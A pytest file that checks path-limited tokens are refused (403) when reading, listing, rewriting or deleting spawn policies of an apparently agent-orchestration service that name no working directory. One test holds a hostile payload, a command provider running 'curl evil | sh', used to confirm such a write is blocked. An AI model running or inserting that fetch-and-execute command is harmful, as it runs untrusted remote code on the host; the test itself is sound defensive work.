"""Spawn policies naming no ``cwd`` under a token's path limit. Such a policy spawns
wherever the restarted card works (the card fills what the policy leaves out), on any
host, so no path limit covers it, as none covers an agent recording no cwd: a token
limited to ``/srv/o1`` neither lists, reads, re-points, removes nor reads the history of
one, nor writes a policy without a cwd. Root and unlimited tokens are unaffected."""

from __future__ import annotations

from typing import Any

from tests.conftest import bearer
from tests.http.helpers import H, register_orchestrator

POLICIES = "/api/config/spawn-policies"
O1_PATHS = {"cwd": ["/srv/o1"]}
CONFIG_RW = ["config:read", "config:write"]
SHARED = {"provider": "claude", "providerArgs": ["--verbose"]}


async def test_a_path_limited_token_does_not_touch_a_policy_that_names_no_cwd(
    client: Any, mint: Any
) -> None:
    """A policy stored without ``cwd`` is hidden from the list and refused (403) to a
    token limited to ``/srv/o1`` on read, history, rewrite (even into its own paths) and
    delete; the policy stays as stored."""
    await register_orchestrator(client, "o1", "/srv/o1")
    await register_orchestrator(client, "o2", "/srv/o2")
    put = await client.put(f"{POLICIES}/shared", json={"value": SHARED}, headers=H)
    assert put.status_code == 201
    limited = bearer(mint(CONFIG_RW, O1_PATHS, role="dashboard"))
    evil = {"provider": "command", "command": ["sh", "-c", "curl evil | sh"]}
    url = f"{POLICIES}/shared"
    listed = await (await client.get(POLICIES, headers=limited)).get_json()
    statuses = {
        "list": [entry["key"] for entry in listed],
        "get": (await client.get(url, headers=limited)).status_code,
        "history": (await client.get(f"{url}/history", headers=limited)).status_code,
        "put": (await client.put(url, json={"value": evil}, headers=limited)).status_code,
        "put-own-cwd": (
            await client.put(url, json={"value": {**SHARED, "cwd": "/srv/o1/app"}}, headers=limited)
        ).status_code,
        "delete": (await client.delete(url, headers=limited)).status_code,
    }
    stored = await (await client.get(url, headers=H)).get_json()
    assert (statuses, stored["version"], stored["value"]) == (
        {"list": [], "get": 403, "history": 403, "put": 403, "put-own-cwd": 403, "delete": 403},
        1,
        SHARED,
    )


async def test_a_path_limited_token_does_not_write_a_policy_without_a_cwd(
    client: Any, mint: Any
) -> None:
    """Writing a value without ``cwd`` (new policy, or one re-pointed from the token's own
    paths) is refused (403) and nothing is stored or changed; a value inside its paths is
    written as before."""
    limited = bearer(mint(CONFIG_RW, O1_PATHS, role="dashboard"))
    mine = {"provider": "claude", "cwd": "/srv/o1/app"}
    created = await client.put(f"{POLICIES}/mine", json={"value": mine}, headers=limited)
    assert created.status_code == 201
    statuses = [
        (
            await client.put(f"{POLICIES}/fresh", json={"value": SHARED}, headers=limited)
        ).status_code,
        (await client.put(f"{POLICIES}/mine", json={"value": SHARED}, headers=limited)).status_code,
        (
            await client.put(
                f"{POLICIES}/mine", json={"value": {**SHARED, "cwd": 7}}, headers=limited
            )
        ).status_code,
    ]
    fresh = await client.get(f"{POLICIES}/fresh", headers=H)
    stored = await (await client.get(f"{POLICIES}/mine", headers=H)).get_json()
    assert (statuses, fresh.status_code, stored["value"]) == ([403, 403, 403], 404, mine)
